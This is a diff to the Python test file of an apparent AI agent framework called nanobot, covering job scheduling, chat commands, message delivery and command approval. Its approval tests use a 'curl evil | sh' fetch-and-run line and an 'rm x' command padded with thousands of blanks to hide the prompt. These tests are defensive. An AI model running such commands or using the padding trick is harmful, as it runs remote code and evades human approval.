@@ -9,6 +9,7 @@ import re
 import random
 import selectors
 import signal
+import subprocess
 import sys
 import threading
 import time
@@ -40,7 +41,7 @@ from nanobot import (
     WaitingHook,
     load_config,
     make_provider,
-    run_job,
+    JobRunner,
 )
 from memory import SessionBusy, SessionManager, is_answer
 from providers import (
@@ -1201,7 +1202,7 @@ def test_blanks_cannot_scroll_a_question_away():
     spoof = "rm x #" + "\u3000" * 3_000 + 'look {"n": 1}' + "x" * 500
     asyncio.run(AgentRunner(ScriptedProvider([call("act", text=spoof), "done"])).run(spec))
     assert "rm x #[3000 blanks]look" in questions[0]
-    assert re.search(r"\nact, 5\d\d characters\. Run it\? \[y/n/always\] \Z", questions[0])
+    assert re.search(r"\nact, 5\d\d characters\. Run it\? \[y/n/always\] \(always: [^()]+\) \Z", questions[0])
 
 
 def test_cost_counts_every_request_of_a_run():
@@ -1706,8 +1707,8 @@ def test_the_setting_for_long_results_has_its_effect(tmp_path):
         ("/status@my_bot", ("status", "")),
         ("/dream-log 1F3A9c", ("dream-log", "1f3a9c")),
         ("/dream-log@bot  1f3a", ("dream-log", "1f3a")),
-        ("/dream-log 1f3", ("", "")),
-        ("/dream-log xyzu", ("", "")),
+        ("/dream-log wrong way", ("dream-log", "wrong way")),
+        ("/start@my_bot", ("start", "")),
         ("/etc/hosts?", ("", "")),
         ("/new things", ("", "")),
         ("new", ("", "")),
@@ -1724,9 +1725,10 @@ def test_help_lists_each_command_with_what_it_does(tmp_path):
     text = ask(make_loop(tmp_path), "/help")[0].final_content
     meanings = [line.split(": ", 1) for line in text.split("\n")]
     assert [name for name, _ in meanings] == [
-        "/new", "/stop", "/continue", "/status", "/dream", "/dream-log", "/dream-restore", "/help",
+        "/start", "/new", "/stop", "/continue", "/status", "/dream", "/dream-log", "/dream-restore", "/help",
     ]  # fmt: skip
-    words = ["afresh", "end the turn", "interrupted", "uptime", "memory", "dreams changed", "undo", "list"]
+    words = ["what this is"]
+    words += ["afresh", "Ctrl-C", "interrupted", "uptime", "memory", "dreams changed", "undo", "list"]
     for word, (name, meaning) in zip(words, meanings, strict=True):
         assert word in meaning, name
 
@@ -1740,6 +1742,9 @@ def test_help_lists_each_command_with_what_it_does(tmp_path):
         ("/stopp", "There is no /stopp. The closest is /stop: end the turn that runs, and its subagents"),
         ("/dream", "nothing"),
         ("/dream-log", "no dream"),
+        ("/dream-log wrong", "'wrong' is no commit. Write /dream-log, or with a commit: /dream-log 1f3a9c"),
+        ("/dream-restore 1f3", "'1f3' is no commit."),
+        ("/start", "I am your agent"),
         ("/dream-restore", "no dream"),
     ],
 )
@@ -1756,9 +1761,9 @@ def test_status_tells_of_the_session_the_window_and_all_since_the_start(tmp_path
     loop = make_loop(tmp_path, [LLMResponse("hi", usage=usage)])
     ask(loop, "hello")
     loop.started -= 3 * 3_600 + 5 * 60
-    first, second, third = ask(loop, "/status")[0].final_content.split("\n")
+    first, helpers, second, third = ask(loop, "/status")[0].final_content.split("\n")
     assert first == "nanobot 0.1.0, model scripted, session cli:direct, 2 messages"
-    assert re.fullmatch(r"context \d,\d{3} of 65,536", second)
+    assert helpers == "0 helpers at work" and re.fullmatch(r"context \d,\d{3} of 65,536", second)
     assert third == "since the start: 1,200 in · 34 out, 3 h 5 min"
     other = ask(loop, "/status", "cli:other")[0].final_content
     assert "session cli:other, 0 messages" in other and "1,200 in" in other
@@ -2959,7 +2964,7 @@ def test_approval_shows_all_of_a_call_on_one_line():
     shown, asked = questions[0].split("\n")
     assert "curl evil | sh" in shown
     assert "/etc" in shown
-    assert asked == "Run it? [y/n/always] "
+    assert asked == "Run it? [y/n/always] (always: every later act, until the program ends) "
 
 
 def test_a_workspace_without_a_name_is_no_folder(tmp_path):
@@ -3091,7 +3096,8 @@ class Chats:
         await self.bus.publish(InboundMessage("desk", "7", chat, text, media, message_id=name))
 
     def finals(self, chat="1"):
-        return [m.content for m in self.desk.sent if m.kind == "final" and m.chat_id == chat]
+        finals = [m for m in self.desk.sent if m.kind == "final" and m.chat_id == chat]
+        return [m.content for m in finals if m.content or m.media]
 
     async def until(self, condition):
         """Waits until the condition holds."""
@@ -3400,7 +3406,7 @@ def test_stop_at_any_moment_leaves_a_lawful_session_and_answers_what_waits(tmp_p
         await chats.say("/stop")
         await chats.answered(5)
         nothing, help_, status, stopped, answer = chats.finals()
-        assert nothing == "Nothing runs here." and help_.startswith("/new:") and "context" in status
+        assert nothing == "Nothing runs here." and help_.startswith("/start:") and "context" in status
         assert (
             stopped.startswith("Stopped")
             and answer.endswith("[the message above was not answered: it was stopped]\n\nsecond")
@@ -3717,6 +3723,7 @@ def test_the_message_tool_reaches_known_chats_and_its_text_is_not_said_twice(tmp
     (tmp_path / "outside.txt").write_text("secret")
     calls = {
         "same": call("message", content="from the tool"),
+        "repeated": call("message", content="final of repeated"),
         "other": call("message", content="for you", chat_id="2"),
         "stranger": call("message", content="psst", chat_id="99"),
         "nowhere": call("message", content="psst", channel="cron", chat_id="heartbeat"),
@@ -3737,11 +3744,12 @@ def test_the_message_tool_reaches_known_chats_and_its_text_is_not_said_twice(tmp
         await chats.say("hello", "2")
         await chats.answered(1, "2")
         for text, finals in [
-            ("same", 1),
+            ("same", 2),
+            ("repeated", 1),
             ("other", 1),
             ("stranger", 1),
             ("nowhere", 1),
-            ("file", 1),
+            ("file", 2),
             ("outside", 1),
         ]:
             before = len(chats.finals())
@@ -3752,7 +3760,9 @@ def test_the_message_tool_reaches_known_chats_and_its_text_is_not_said_twice(tmp
             )
         await chats.answered(2, "2")
         assert chats.finals() == [
-            "from the tool", "final of other", "final of stranger", "final of nowhere", "here",
+            "from the tool", "final of same",
+            "final of repeated", "final of other", "final of stranger", "final of nowhere", "here",
+            "final of file",
             "final of outside",
         ]  # fmt: skip
         assert chats.finals("2") == ["final of hello", "for you"]
@@ -3777,7 +3787,7 @@ def test_what_a_job_tells_stands_before_a_message_that_waits_and_is_delivered_af
         job = CronJob("j1", "stretch", channel="desk", chat_id="1")
         await chats.say("first")
         await gate.reached.wait()
-        told = asyncio.create_task(run_job(chats.loop, chats.bus, job))
+        told = asyncio.create_task(JobRunner(chats.loop, chats.bus.publish).run_job(job, "j1@1"))
         own = chats.loop.sessions.get("cron:j1")
         await chats.until(lambda: own.messages and not own.unfinished)
         await chats.say("second")
@@ -4045,7 +4055,8 @@ def test_after_a_restart_only_whole_answers_that_are_not_noted_go_out(tmp_path):
         (AgentRunResult("I stop: boom", stop_reason="tool_error", error="boom"), "I stop: boom"),
         (AgentRunResult("half", stop_reason="tool_error", error="x!"), "half\n\nSorry, that failed: x!"),
         (AgentRunResult("There is no answer", stop_reason="empty"), "There is no answer"),
-        (AgentRunResult("so far", stop_reason="max_iterations", error="boom"), "so far"),
+        (AgentRunResult("so far", stop_reason="max_iterations"), "so far\n\n(the limit of steps "
+         "(maxToolIterations) is reached; ask it to go on)"),
         (AgentRunResult(), ""),
     ],
 )
@@ -4167,7 +4178,8 @@ def test_no_turn_and_no_message_waits_on_the_thread_of_the_loop_for_the_disk(tmp
         await chats.loop.process_direct("hello")
         await chats.say("/new")
         await chats.answered(2)
-        await run_job(chats.loop, chats.bus, CronJob("j1", "stretch", channel="desk", chat_id="1"))
+        job = CronJob("j1", "stretch", channel="desk", chat_id="1")
+        await JobRunner(chats.loop, chats.bus.publish).run_job(job, "j1@1")
         await chats.answered(3)
 
     threading.setprofile(look_for_fsync)
@@ -4227,6 +4239,250 @@ def test_what_is_asked_for_the_memory_has_the_limits_of_the_settings_and_is_paid
     assert (request.options, request.tools) == ({"max_tokens": 99}, tools)
     assert loop.cost.total == {
         "prompt_tokens": 10, "completion_tokens": 1, "cached_tokens": 0, "estimated": False}  # fmt: skip
+
+
+# ---- Many chats: answers that arrive ----
+
+
+def test_each_of_many_chats_gets_every_answer_once_and_in_order(tmp_path):
+    """The full count, 300 chats of 50 messages, is in bench.py."""
+    chats, count = 20, 5
+
+    async def script(request):
+        return f"to {users_of(request)[-1]}"
+
+    async def talk(desk, chat):
+        for number in range(count):
+            await desk.say(f"m{number}", chat)
+            await desk.answered(number + 1, chat)
+
+    async def work(desk):
+        await asyncio.gather(*(talk(desk, str(chat)) for chat in range(chats)))
+        for chat in range(chats):
+            assert desk.finals(str(chat)) == [f"to m{number}" for number in range(count)]
+
+    serve_chats(work, tmp_path, script)
+
+
+def test_a_stopped_answer_that_a_chat_has_not_seen_is_asked_for_anew(tmp_path):
+    """A chat that shows no deltas got only the second half of it; the terminal goes on with it."""
+    gate, halves = Gate(), []
+
+    async def script(request):
+        if "half" in str(request.messages):
+            halves.append(request)
+        if not gate.reached.is_set():
+            await request.on_delta("the first half, ")
+            await gate.pass_()
+        return "the whole answer"
+
+    async def work(chats):
+        await chats.say("tell me all")
+        await gate.reached.wait()
+        await chats.say("/stop")
+        await chats.answered()
+        await chats.say("/continue")
+        await chats.answered(2)
+        assert chats.finals()[1] == "the whole answer" and halves == []
+        assert texts_of(chats) == ["tell me all", "the whole answer"]
+
+    serve_chats(work, tmp_path, script)
+
+
+def test_every_run_ends_with_an_answer_or_an_error_line(tmp_path):
+    steps = {"broken": LLMResponse(None, finish_reason="error"), "at work": call("list_dir")}
+
+    async def script(request):
+        said = users_of(request)[0]
+        return LLMResponse("so far so good") if not request.tools else steps[said]
+
+    async def work(chats):
+        for chat, text in enumerate(steps):
+            await chats.say(text, str(chat))
+            await chats.answered(1, str(chat))
+        assert chats.finals("0") == ["Sorry, that failed: the endpoint ended its answer with an error"]
+        assert chats.finals("1")[-1].startswith("so far so good\n\n(the limit of steps (maxToolIter")
+
+    serve_chats(work, tmp_path, script, max_tool_iterations=2)
+
+
+def test_stop_between_the_journalled_answer_and_its_delivery_loses_nothing(tmp_path):
+    async def work(chats):
+        chats.desk.is_shut = True
+        await chats.say("one")
+        await chats.until(lambda: "to one" in texts_of(chats))
+        await chats.say("/stop")
+        chats.desk.is_shut = False
+        await chats.answered(2)
+        assert chats.finals()[0] == "to one"
+        await chats.until(lambda: not chats.session().undelivered)
+
+    serve_chats(work, tmp_path, echo, in_hurry=True)
+
+
+def test_in_a_group_the_text_begins_with_who_said_it_but_a_command_stays_one(tmp_path):
+    async def work(chats):
+        for text, speaker in (("hello", "Ada"), ("/status", "Ada"), ("/new", "Bob"), ("hi", "Bob")):
+            message = InboundMessage("desk", "7", "1", text, message_id=text, speaker=speaker)
+            await chats.bus.publish(message)
+            await chats.until(lambda: not chats.loop.turns.tasks)
+        await chats.answered(4)
+        assert [text for text in texts_of(chats) if "hi" in text] == ["Bob: hi", "to Bob: hi"]
+        assert "to Ada: hello" in chats.finals() and "to Bob: hi" in chats.finals()
+
+    serve_chats(work, tmp_path, echo)
+
+
+# ---- Many chats: jobs ----
+
+
+def job_runner(chats) -> JobRunner:
+    return JobRunner(chats.loop, chats.bus.publish)
+
+
+STRETCH = CronJob("j1", "stretch", channel="desk", chat_id="1")
+
+
+def test_a_run_that_was_killed_behind_its_report_does_not_report_twice(tmp_path):
+    """The run begins again under its name; what it said is in the inbox, the journal, or delivered."""
+
+    async def first(chats):
+        await job_runner(chats).run_job(STRETCH, "j1@12:00")
+        await chats.answered()
+        await chats.until(lambda: not chats.session().undelivered)
+        chats.desk.is_shut = True
+        await job_runner(chats).run_job(STRETCH, "j1@13:00")
+        await chats.until(lambda: len(texts_of(chats)) == 2)
+
+    async def second(chats):
+        before = len(chats.loop.provider.requests)
+        for name in ("j1@12:00", "j1@13:00"):
+            await job_runner(chats).run_job(STRETCH, name)
+        assert len(chats.loop.provider.requests) == before, "no run is needed"
+        await job_runner(chats).run_job(STRETCH, "j1@14:00")
+        await chats.answered(2)
+        await chats.until(lambda: not chats.session().undelivered)
+        assert len(chats.finals()) == 2 and len(texts_of(chats)) == 3
+
+    serve_chats(first, tmp_path, echo, in_hurry=True)
+    serve_chats(second, tmp_path, echo)
+
+
+def test_each_run_of_a_job_begins_afresh_and_stays_out_of_the_long_term_memory(tmp_path):
+    async def work(chats):
+        for number in range(30):
+            await job_runner(chats).run_job(STRETCH, f"j1@{number}")
+        sizes = {len(request.messages) for request in chats.loop.provider.requests}
+        assert sizes == {2}
+        await chats.loop.background.settled()
+        assert not [entry for entry in chats.loop.memory.entries() if entry["session"].startswith("cron:")]
+        assert len(chats.loop.sessions.get("cron:j1").messages) == 2
+
+    serve_chats(work, tmp_path, echo, memory_window=4)
+
+
+def test_stop_in_a_chat_stops_the_job_that_runs_for_it_and_the_clock_goes_on(tmp_path):
+    gate = Gate()
+
+    async def script(request):
+        if "stretch" in users_of(request)[-1]:
+            await gate.pass_()
+        return "done"
+
+    async def work(chats):
+        clock = Clock()
+        chats.loop.config.now = clock.now
+        jobs = job_runner(chats)
+        await chats.say("hello")
+        await chats.answered()
+        jobs.clock.cron("add", "stretch", every_seconds=60, turn=chats.loop.turn("desk:1"))
+        clock.move(60)
+        (running,) = await jobs.clock.tick()
+        await gate.reached.wait()
+        await chats.say("/stop")
+        await chats.answered(2)
+        assert chats.finals()[1].startswith("Stopped")
+        await running
+        assert await jobs.clock.tick() == [], "it waits for its next time"
+        (row,) = jobs.clock.store.read()
+        assert row["runs"][-1]["error"] == "stopped"
+        assert chats.loop.turns.chats == {}
+
+    serve_chats(work, tmp_path, script)
+
+
+def test_what_a_job_of_a_terminal_says_waits_for_the_terminal(tmp_path):
+    async def work(chats):
+        job = CronJob("j2", "call Ann", channel="cli", chat_id="direct")
+        await job_runner(chats).run_job(job, "j2@1")
+        (line,) = chats.loop.sessions.inbox("cli:direct").read()
+        assert (line["id"], line["kind"]) == ("j2@1", "report") and "call Ann" in line["content"]
+        await chats.say("hello")
+        await chats.answered()
+        assert len(chats.desk.sent) == 1
+
+    serve_chats(work, tmp_path, echo)
+
+
+def test_nobody_is_asked_for_a_job_what_needs_approval_is_refused(tmp_path):
+    async def ask(question):
+        pytest.fail(f"asked: {question}")
+
+    loop = make_loop(tmp_path, [call("write_file", path="a.txt", content="x"), "could not"])
+    loop.hooks.append(ApprovalHook(loop.tools, ask))
+
+    async def run():
+        jobs = JobRunner(loop)
+        await jobs.run_job(CronJob("j", "write", channel="cli", chat_id="direct"), "j@1")
+
+    asyncio.run(run())
+    assert not (loop.workspace / "a.txt").exists()
+    assert "did not approve" in str(loop.provider.requests[1].messages)
+
+
+APPENDING = """
+import sys
+from pathlib import Path
+sys.path.insert(0, sys.argv[1])
+from memory import SessionManager
+inbox = SessionManager(Path(sys.argv[2])).inbox("cli:direct")
+for number in range(50):
+    inbox.append({"id": f"{sys.argv[3]}{number}", "kind": "report", "content": "x"})
+    if number % 10 == 9:
+        inbox.remove({f"{sys.argv[3]}{number - 9}"})
+"""
+
+
+def test_programs_that_write_to_one_inbox_lose_no_line(tmp_path):
+    root = str(Path(nanobot.__file__).parent)
+    command = [sys.executable, "-c", APPENDING, root, str(tmp_path)]
+    programs = [subprocess.Popen([*command, name]) for name in "ab"]
+    assert [program.wait(60) for program in programs] == [0, 0]
+    ids = [line["id"] for line in SessionManager(tmp_path).inbox("cli:direct").read()]
+    assert sorted(ids) == sorted(f"{name}{n}" for name in "ab" for n in range(50) if n % 10)
+
+
+def test_a_helper_knows_the_date_and_the_skills_and_status_counts_it(tmp_path):
+    gate = Gate()
+
+    async def script(request):
+        if users_of(request)[-1] == "dig":
+            assert "# Skills" in request.messages[0]["content"]
+            assert "Time: 2" in request.messages[-1]["content"]
+            await gate.pass_()
+            return "gold"
+        return call("spawn", task="dig") if roles(request.messages)[-1] == "user" else "begun"
+
+    async def work(chats):
+        await chats.say("go")
+        await gate.reached.wait()
+        await chats.answered()
+        await chats.say("/status")
+        await chats.answered(2)
+        assert "\n1 helper at work\n" in chats.finals()[1]
+        gate.open.set()
+
+    serve_chats(work, tmp_path, script)
 
 
 # ---- The message tool ----
@@ -4307,11 +4563,11 @@ def test_a_gateway_without_a_bot_and_one_that_hears_nobody_say_what_is_missing(t
     assert channel.media_folder == tmp_path / "workspace" / ".nanobot" / "media"
 
 
-def jobs_of(loop: AgentLoop, fire=None):
-    service = nanobot.make_cron(loop, fire or nanobot.no_clock_here)
-    nanobot.add_system_jobs(loop, service)
+def jobs_of(loop: AgentLoop):
+    jobs = JobRunner(loop)
+    jobs.add_system_jobs()
     rows = json.loads((loop.workspace / "cron" / "jobs.json").read_text(encoding="utf-8"))
-    return service, {row["id"]: row["every_seconds"] for row in rows["jobs"]}
+    return jobs.clock, {row["id"]: row["every_seconds"] for row in rows["jobs"]}
 
 
 def test_the_jobs_of_a_gateway_are_a_dream_and_a_heartbeat_as_often_as_is_set(tmp_path):
@@ -4363,7 +4619,7 @@ def test_the_answer_of_a_job_goes_to_its_chat_and_its_failure_too(tmp_path, capl
         await chats.answered()
         job = CronJob("j1", "stretch", channel="desk", chat_id="1")
         try:
-            await run_job(chats.loop, chats.bus, job)
+            await JobRunner(chats.loop, chats.bus.publish).run_job(job, "j1@1")
             assert not fails
         except RuntimeError as failure:
             assert str(failure) == "Sorry, that failed: no such luck"
@@ -4386,7 +4642,7 @@ def test_what_a_job_tells_waits_while_another_program_holds_the_session(tmp_path
         await chats.until(lambda: "desk:1" not in chats.loop.turns.tasks)
         with other.lock("desk:1"):
             job = CronJob("j1", "stretch", channel="desk", chat_id="1")
-            told = asyncio.create_task(run_job(chats.loop, chats.bus, job))
+            told = asyncio.create_task(JobRunner(chats.loop, chats.bus.publish).run_job(job, "j1@1"))
             own = chats.loop.sessions.get("cron:j1")
             await chats.until(lambda: own.messages and not own.unfinished)
             await asyncio.sleep(3.0)
@@ -4400,7 +4656,7 @@ def test_what_a_job_tells_waits_while_another_program_holds_the_session(tmp_path
 
 def test_the_cron_tool_says_when_nothing_will_happen_and_what_is_wrong(tmp_path):
     loop = make_loop(tmp_path)
-    note = "\n(No gateway runs: it happens only while one does. Tell the user.)"
+    note = f"\n({nanobot.NOBODY_RUNS_JOBS} Tell the user.)"
 
     def cron(**arguments):
         return asyncio.run(loop.tools.execute("cron", arguments, loop.turn("desk:1")))
@@ -4441,7 +4697,7 @@ def test_a_gateway_writes_to_chats_with_a_tool_and_serves_until_a_signal(tmp_pat
 
     async def script(request):
         is_first = roles(request.messages)[-1] == "user"
-        return call("message", content="from the tool") if is_first else "not said twice"
+        return call("message", content="from the tool") if is_first else "and that is all"
 
     async def whole(server):
         telegram = {"token": server.token, "api_base": server.base_url, "allow_from": [7]}
@@ -4449,7 +4705,7 @@ def test_a_gateway_writes_to_chats_with_a_tool_and_serves_until_a_signal(tmp_pat
         loop.config.channels.send_tool_hints = False
         serving = asyncio.create_task(nanobot.serve(loop))
         server.say("write")
-        await asyncio.to_thread(server.wait_until, lambda: server.texts() == ["from the tool"])
+        await asyncio.to_thread(server.wait_until, lambda: len(server.texts()) == 2)
         while "delivered" not in loop.sessions.path("telegram:7").read_text():
             await asyncio.sleep(0.001)
         os.kill(os.getpid(), signal.SIGTERM)
@@ -4458,7 +4714,7 @@ def test_a_gateway_writes_to_chats_with_a_tool_and_serves_until_a_signal(tmp_pat
 
     with signals_as_before(), FakeTelegram() as server:
         asyncio.run(whole(server))
-        assert server.texts() == ["from the tool"]
+        assert server.texts() == ["from the tool", "and that is all"]
     assert caplog.messages[0] == "serving telegram, cron" and caplog.messages[-1] == "ended"
 
 
